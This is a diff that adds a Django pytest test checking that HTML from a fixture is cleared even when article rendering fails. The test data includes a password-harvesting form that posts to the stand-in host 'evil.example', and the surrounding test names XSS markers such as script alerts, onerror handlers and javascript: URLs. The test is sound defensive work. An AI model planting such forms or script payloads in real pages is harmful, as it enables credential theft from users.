@@ -62,3 +62,21 @@ def test_fixture_html_is_never_trusted(client, tmp_path):
     call_command("loaddata", str(hostile), verbosity=0, stdout=StringIO())
     body = page(client)
     assert "<script>alert" not in body and "onerror" not in body and "javascript:" not in body
+
+
+def test_fixture_html_never_stays_even_when_an_article_cannot_be_rendered(client, tmp_path, monkeypatch):
+    from references.models import Reference
+
+    data = json.loads(settings.SEED_FIXTURE.read_text(encoding="utf-8"))
+    for row in data:
+        if row["model"] == "references.reference":
+            row["fields"]["html"] = '<form action="//evil.example"><input name="password"></form>'
+    hostile = tmp_path / "hostile.json"
+    hostile.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
+
+    def fail(self):
+        raise RuntimeError("cannot render")
+
+    monkeypatch.setattr(Article, "render", fail)
+    call_command("loaddata", str(hostile), verbosity=0, stdout=StringIO())
+    assert set(Reference.objects.values_list("html", flat=True)) == {""}
